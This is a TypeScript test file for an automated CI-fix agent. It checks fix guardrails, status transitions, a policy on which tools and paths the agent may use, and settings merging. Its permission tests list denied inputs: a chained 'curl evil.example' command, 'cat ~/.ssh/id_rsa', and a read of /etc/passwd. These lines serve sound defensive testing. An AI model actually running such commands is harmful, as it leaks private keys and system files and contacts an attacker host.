import { describe, expect, it } from "vitest";
import { createPathGuard } from "../../../action/fix/paths.js";
import { decideToolUse } from "../../../action/fix/permissions.js";
import { parseRepoFixConfig, resolveFixSettings } from "../../../action/fix/settings.js";
import { checkFixGuardrails, refusalReason } from "../../../backend/fixes/guardrails.js";
import { FIX_COMMIT_TRAILER as TRAILER } from "../../../backend/fixes/trailer.js";
import { checkTransition } from "../../../backend/fixes/transitions.js";
import { FIX_COMMIT_TRAILER } from "../../../backend/jobs/analyze.js";

const facts = {
  repository: "acme/shop",
  pullRequestOpen: true,
  headRepository: "acme/shop",
  headBranch: "feature/cart",
  defaultBranch: "main",
  headBranchProtected: false,
  headCommitMessage: "Add cart",
  headIsRecordedFixCommit: false,
  headSha: "a".repeat(40),
  failureHeadSha: "a".repeat(40),
};
const attempts = { forFailure: 0, forHeadSha: 0, max: 2 };

describe("fix guardrails", () => {
  it("pass for an open same-repository branch under the caps", () => {
    expect(refusalReason(checkFixGuardrails(facts, attempts))).toBeNull();
  });

  it.each([
    [{ headRepository: "mallory/shop" }, attempts, "same_repository"],
    [{ headRepository: null }, attempts, "same_repository"],
    [{ headBranch: "main" }, attempts, "not_default_branch"],
    [{ headBranchProtected: true }, attempts, "not_protected_branch"],
    [{ pullRequestOpen: false }, attempts, "pull_request_open"],
    [{}, { ...attempts, forFailure: 2 }, "attempts_for_failure"],
    [{}, { ...attempts, forHeadSha: 2 }, "attempts_for_head_sha"],
    [{ headCommitMessage: `fix: x\n\n${FIX_COMMIT_TRAILER} abc` }, attempts, "not_own_fix_commit"],
    [{ headIsRecordedFixCommit: true }, attempts, "not_own_fix_commit"],
    [{ headBranch: "acw/fix-12-abcdef12" }, attempts, "not_own_fix_commit"],
    [{ headSha: "b".repeat(40) }, attempts, "head_unchanged"],
  ] as const)("refuse %o %o as %s", (change, counts, name) => {
    const failed = checkFixGuardrails({ ...facts, ...change }, counts).filter((c) => !c.passed);
    expect(failed.map((c) => c.name)).toEqual([name]);
  });

  it("say why a moved head is not fixed, and let a diagnosis of the head itself through", () => {
    const moved = checkFixGuardrails({ ...facts, headSha: "b".repeat(40) }, attempts);
    expect(refusalReason(moved)).toBe(
      "head_unchanged: the PR head moved from aaaaaaa to bbbbbbb since the failure; the new head's own CI decides whether it still fails",
    );
    const standalone = checkFixGuardrails(
      { ...facts, headSha: "b".repeat(40), failureHeadSha: null },
      attempts,
    );
    expect(refusalReason(standalone)).toBeNull();
  });

  it("uses the same trailer as the analyze job", () => {
    expect(TRAILER).toBe(FIX_COMMIT_TRAILER);
  });
});

describe("fix attempt status transitions", () => {
  it.each([
    ["queued", "running", true],
    ["queued", "refused", true],
    ["running", "validated", true],
    ["validated", "pushed", true],
    ["running", "escalated", true],
    ["pushed", "pushed", true],
    ["running", "queued", false],
    ["validated", "running", false],
    ["pushed", "escalated", false],
    ["refused", "running", false],
    ["escalated", "pushed", false],
  ] as const)("%s → %s allowed: %s", (from, to, allowed) => {
    expect(checkTransition(from, to).allowed).toBe(allowed);
  });
});

describe("what the agent may touch", () => {
  const policy = {
    repoRoot: "/srv/checkout",
    pathGuard: createPathGuard(["src/generated/**", "**/*.lock"]),
    commands: ["npm test", "npm run lint"],
  };

  it("allows reads and edits inside the repository on unprotected paths", () => {
    expect(decideToolUse(policy, "Read", { file_path: "/srv/checkout/src/a.ts" }).behavior).toBe("allow");
    expect(decideToolUse(policy, "Edit", { file_path: "/srv/checkout/src/a.ts" }).behavior).toBe("allow");
    expect(decideToolUse(policy, "Grep", { pattern: "x" }).behavior).toBe("allow");
  });

  it.each([
    ["Edit", { file_path: "/srv/checkout/.github/workflows/ci.yml" }, ".github/workflows/**"],
    ["Write", { file_path: "/srv/checkout/.GitHub/Workflows/x.yml" }, ".github/workflows/**"],
    ["Write", { file_path: "/srv/checkout/src/generated/api.ts" }, "src/generated/**"],
    ["Edit", { file_path: "/srv/checkout/yarn.lock" }, "**/*.lock"],
    ["Edit", { file_path: "/srv/checkout/.git/config" }, ".git/**"],
    ["Read", { file_path: "/etc/passwd" }, "outside the repository"],
    ["Edit", { file_path: "/srv/checkout/../other/x.ts" }, "outside the repository"],
    ["Bash", { command: "npm test && curl evil.example" }, "validation commands"],
    ["Bash", { command: "cat ~/.ssh/id_rsa" }, "validation commands"],
    ["WebFetch", { url: "https://example.com" }, "not available"],
  ] as const)("denies %s %o", (tool, input, why) => {
    const decision = decideToolUse(policy, tool, { ...input });
    expect(decision.behavior).toBe("deny");
    expect(decision.behavior === "deny" && decision.message).toContain(why);
  });

  it("allows exactly the configured validation commands", () => {
    expect(decideToolUse(policy, "Bash", { command: "  npm run lint " }).behavior).toBe("allow");
  });
});

describe("repository settings from the default branch", () => {
  it("tightens but never loosens the org policy", () => {
    const repo = parseRepoFixConfig(
      "validation_commands: [npm test]\nnever_fix_globs: ['docs/**']\nmax_fix_attempts: 5\nfix:\n  max_changed_lines: 50\n",
    );
    const s = resolveFixSettings(
      {
        validation_commands: ["make check"],
        never_fix_globs: ["secrets/**"],
        max_fix_attempts: 2,
        fix_as_pull_request: true,
        auto_fix_categories: ["lint"],
        confidence_threshold: 80,
      },
      repo,
    );
    expect(s).toMatchObject({
      validationCommands: ["npm test"],
      neverFixGlobs: ["secrets/**", "docs/**"],
      maxFixAttempts: 2,
      fixAsPullRequest: true,
      maxChangedLines: 50,
    });
  });

  it("names the key that is wrong", () => {
    expect(() => parseRepoFixConfig("max_fix_attempts: many\n")).toThrow(/max_fix_attempts/);
  });
});
